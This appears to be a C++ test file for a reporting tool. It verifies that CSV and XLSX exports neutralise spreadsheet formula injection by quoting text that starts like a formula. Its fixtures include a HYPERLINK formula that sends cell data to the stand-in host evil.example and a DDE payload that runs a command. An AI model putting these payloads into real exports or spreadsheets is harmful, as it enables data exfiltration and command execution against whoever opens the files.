// Text that a spreadsheet would run as a formula reaches every exported table as plain text.
#include "reportfixture.h"
#include "testsupport.h"

#include "catalogue/spreadsheetimport.h"
#include "common/csvreader.h"
#include "common/formulaguard.h"
#include "reporting/csvwriter.h"
#include "reporting/readinessreportbuilder.h"
#include "reporting/xlsxexport.h"
#include "scoring/scorer.h"

#include <QJsonArray>
#include <QJsonDocument>
#include <QJsonObject>
#include <QProcess>

using namespace seqohs;

namespace {

const QString hyperlink = QStringLiteral("=HYPERLINK(\"https://evil.example/?\"&A1,\"Open\")");
const QString plusFormula = QStringLiteral("+1+2");
const QString minusFormula = QStringLiteral("-2+3");
const QString atFormula = QStringLiteral("@SUM(A1:A9)");
const QString tabFormula = QStringLiteral("\t=1+1");
const QString returnFormula = QStringLiteral("\r=1+1");
const QString ddeLocation = QStringLiteral("=cmd|' /C calc'!A0");

bool looksLikeFormula(const QString &text)
{
    return !text.isEmpty() && QStringLiteral("=+-@\t\r").contains(text.front());
}

// Every kind of text the tables hold, each starting like a formula.
ScoringInput hostileInput()
{
    ScoringInput in = richInput(10);
    in.profile.name = hyperlink;
    const QString itemId = in.set.assessables().first().id;
    Assessment &a = in.assessments[itemId];
    a.itemId = itemId;
    a.result = AssessmentResult::PartiallyMet;
    a.owner = hyperlink;
    a.narrative = plusFormula;
    for (EvidenceItem &e : in.evidence) {
        if (e.id == 1) {
            e.title = minusFormula;
            e.owner = atFormula;
        }
        if (e.kind == EvidenceItem::Kind::Link)
            e.url = ddeLocation;
    }
    in.actions[0].text = tabFormula;
    in.actions[0].owner = returnFormula;
    in.actions[1].owner = hyperlink;
    return in;
}

QList<CsvReader::Row> parsed(const QByteArray &csv)
{
    const Expected<QList<CsvReader::Row>> rows = CsvReader::parse(csv, QStringLiteral("t.csv"));
    REQUIRE(rows.ok());
    return rows.value();
}

// Every field of the file, row by row.
QList<QStringList> fieldsOf(const QByteArray &csv)
{
    QList<QStringList> rows;
    for (const CsvReader::Row &row : parsed(csv))
        rows << row.fields;
    return rows;
}

// Reads the workbook with openpyxl and, separately, the raw sheet XML: every cell's type and
// value, and whether any sheet holds a formula element at all.
const char *const dumpScript = R"PY(
import json, sys, zipfile, datetime
import openpyxl
out = {"cells": [], "formulaElements": 0}
wb = openpyxl.load_workbook(sys.argv[1])
for ws in wb.worksheets:
    for row in ws.iter_rows():
        for c in row:
            if c.value is None:
                continue
            v = c.value
            if isinstance(v, (datetime.date, datetime.datetime)):
                v = v.isoformat()
            out["cells"].append({"sheet": ws.title, "type": c.data_type, "value": v})
with zipfile.ZipFile(sys.argv[1]) as z:
    for name in z.namelist():
        if name.startswith("xl/worksheets/") and name.endswith(".xml"):
            xml = z.read(name).decode("utf-8")
            out["formulaElements"] += xml.count("<f>") + xml.count("<f ")
print(json.dumps(out))
)PY";

QString pythonWithOpenpyxl()
{
    for (const QString &candidate :
         {QStringLiteral("/usr/bin/python3"), QStringLiteral("python3")}) {
        QProcess p;
        p.start(candidate, {QStringLiteral("-c"), QStringLiteral("import openpyxl")});
        if (p.waitForFinished(30000) && p.exitStatus() == QProcess::NormalExit && p.exitCode() == 0)
            return candidate;
    }
    return QString();
}

QJsonObject readBack(const QString &path)
{
    const QString python = pythonWithOpenpyxl();
    INFO("python3-openpyxl is needed to read the workbook back (scripts/setup installs it)");
    REQUIRE_FALSE(python.isEmpty());
    QProcess p;
    p.start(python, {QStringLiteral("-c"), QString::fromUtf8(dumpScript), path});
    REQUIRE(p.waitForFinished(60000));
    INFO(QString::fromUtf8(p.readAllStandardError()));
    REQUIRE(p.exitCode() == 0);
    QJsonParseError error;
    const QJsonDocument doc = QJsonDocument::fromJson(p.readAllStandardOutput(), &error);
    REQUIRE(error.error == QJsonParseError::NoError);
    return doc.object();
}

} // namespace

TEST_CASE("FormulaGuard puts a quote before text that starts like a formula, and only there")
{
    CHECK(FormulaGuard::neutralised(hyperlink) == QLatin1Char('\'') + hyperlink);
    CHECK(FormulaGuard::neutralised(QStringLiteral("+1")) == QStringLiteral("'+1"));
    CHECK(FormulaGuard::neutralised(QStringLiteral("-1")) == QStringLiteral("'-1"));
    CHECK(FormulaGuard::neutralised(QStringLiteral("@A1")) == QStringLiteral("'@A1"));
    CHECK(FormulaGuard::neutralised(QStringLiteral("\tx")) == QStringLiteral("'\tx"));
    CHECK(FormulaGuard::neutralised(QStringLiteral("\rx")) == QStringLiteral("'\rx"));
    CHECK(FormulaGuard::neutralised(QStringLiteral("Dr Ann Patel")) ==
          QStringLiteral("Dr Ann Patel"));
    CHECK(FormulaGuard::neutralised(QStringLiteral("a=b")) == QStringLiteral("a=b"));
    CHECK(FormulaGuard::neutralised(QStringLiteral(" =1")) == QStringLiteral(" =1"));
    CHECK(FormulaGuard::neutralised(QStringLiteral("'=1")) == QStringLiteral("'=1"));
    CHECK(FormulaGuard::neutralised(QString()) == QString());
    CHECK_FALSE(FormulaGuard::startsLikeFormula(QStringLiteral("2026-03-01")));
}

TEST_CASE("CSV: no text in the assessment, evidence index or action plan can run as a formula")
{
    const ScoringInput input = hostileInput();
    const ReadinessReport report = ReadinessReportBuilder::build(input, Scorer::score(input));

    const QList<QStringList> assessment =
        fieldsOf(CsvWriter::toCsv(report, CsvWriter::Table::Assessment));
    const QList<QStringList> evidence =
        fieldsOf(CsvWriter::toCsv(report, CsvWriter::Table::Evidence));
    const QList<QStringList> actions =
        fieldsOf(CsvWriter::toCsv(report, CsvWriter::Table::Actions));

    for (const QList<QStringList> *table : {&assessment, &evidence, &actions}) {
        REQUIRE(table->size() > 1);
        for (const QStringList &row : *table) {
            for (const QString &field : row) {
                INFO(field);
                CHECK_FALSE(looksLikeFormula(field));
            }
        }
    }

    // The hostile values are there, as the text typed, behind one quote.
    const QStringList &assessmentHeader = assessment.first();
    const qsizetype owner = assessmentHeader.indexOf(QStringLiteral("Owner"));
    const qsizetype narrative = assessmentHeader.indexOf(QStringLiteral("Narrative"));
    REQUIRE(owner >= 0);
    REQUIRE(narrative >= 0);
    const QString itemId = input.set.assessables().first().id;
    const qsizetype idColumn = assessmentHeader.indexOf(QStringLiteral("Item id"));
    bool found = false;
    for (const QStringList &row : assessment) {
        if (row.value(idColumn) != itemId)
            continue;
        found = true;
        CHECK(row.value(owner) == QLatin1Char('\'') + hyperlink);
        CHECK(row.value(narrative) == QStringLiteral("'+1+2"));
    }
    CHECK(found);

    const QStringList &evidenceHeader = evidence.first();
    const QStringList &firstEvidence = evidence.at(1);
    CHECK(firstEvidence.value(evidenceHeader.indexOf(QStringLiteral("Id"))) == QStringLiteral("1"));
    CHECK(firstEvidence.value(evidenceHeader.indexOf(QStringLiteral("Title"))) ==
          QStringLiteral("'-2+3"));
    CHECK(firstEvidence.value(evidenceHeader.indexOf(QStringLiteral("Owner"))) ==
          QStringLiteral("'@SUM(A1:A9)"));
    const qsizetype location = evidenceHeader.indexOf(QStringLiteral("Location"));
    int links = 0;
    for (const QStringList &row : evidence)
        links += row.value(location) == QLatin1Char('\'') + ddeLocation ? 1 : 0;
    CHECK(links == 2); // evidence 5 and 10 are links

    const QStringList &actionsHeader = actions.first();
    const QStringList &firstAction = actions.at(1);
    CHECK(firstAction.value(actionsHeader.indexOf(QStringLiteral("Action"))) ==
          QStringLiteral("'\t=1+1"));
    CHECK(firstAction.value(actionsHeader.indexOf(QStringLiteral("Owner"))) ==
          QStringLiteral("'\r=1+1"));
    CHECK(actions.at(2).value(actionsHeader.indexOf(QStringLiteral("Owner"))) ==
          QLatin1Char('\'') + hyperlink);

    // Negative-looking text is quoted, numbers are not: the weight column holds plain numbers.
    const qsizetype weight = assessmentHeader.indexOf(QStringLiteral("Weight"));
    CHECK(assessment.at(1).value(weight) == QStringLiteral("1"));
}

TEST_CASE("XLSX: every text cell is a string, never a formula, and neutralised like the CSV")
{
    test::TempDir dir;
    const ScoringInput input = hostileInput();
    const ReadinessReport report = ReadinessReportBuilder::build(input, Scorer::score(input));
    const QString path = dir.filePath(QStringLiteral("hostile.xlsx"));
    const Status written = XlsxExport::write(report, path);
    INFO(written.errorString());
    REQUIRE(written.ok());

    const QJsonObject book = readBack(path);
    CHECK(book.value(QStringLiteral("formulaElements")).toInt() == 0);
    QMultiHash<QString, QString> strings; // sheet -> string cell
    const QJsonArray cells = book.value(QStringLiteral("cells")).toArray();
    REQUIRE(cells.size() > 100);
    for (const QJsonValue &v : cells) {
        const QJsonObject cell = v.toObject();
        const QString type = cell.value(QStringLiteral("type")).toString();
        INFO(cell.value(QStringLiteral("value")).toVariant().toString());
        CHECK(type != QStringLiteral("f"));
        if (type == QStringLiteral("s")) {
            const QString text = cell.value(QStringLiteral("value")).toString();
            CHECK_FALSE(looksLikeFormula(text));
            strings.insert(cell.value(QStringLiteral("sheet")).toString(), text);
        }
    }
    const QString quotedLink = QLatin1Char('\'') + hyperlink;
    CHECK(strings.values(QStringLiteral("Summary")).contains(quotedLink));
    CHECK(strings.values(QStringLiteral("Assessment")).contains(quotedLink));
    CHECK(strings.values(QStringLiteral("Assessment")).contains(QStringLiteral("'+1+2")));
    CHECK(strings.values(QStringLiteral("Evidence")).contains(QStringLiteral("'-2+3")));
    CHECK(strings.values(QStringLiteral("Evidence")).contains(QStringLiteral("'@SUM(A1:A9)")));
    CHECK(strings.values(QStringLiteral("Evidence")).contains(QLatin1Char('\'') + ddeLocation));
    CHECK(strings.values(QStringLiteral("Actions")).contains(QStringLiteral("'\t=1+1")));
    CHECK(strings.values(QStringLiteral("Actions")).contains(quotedLink));
}

TEST_CASE("The standards template holds no text that starts like a formula")
{
    for (const QStringList &row : fieldsOf(SpreadsheetImport::templateCsv())) {
        for (const QString &field : row) {
            INFO(field);
            CHECK_FALSE(looksLikeFormula(field));
        }
    }
}
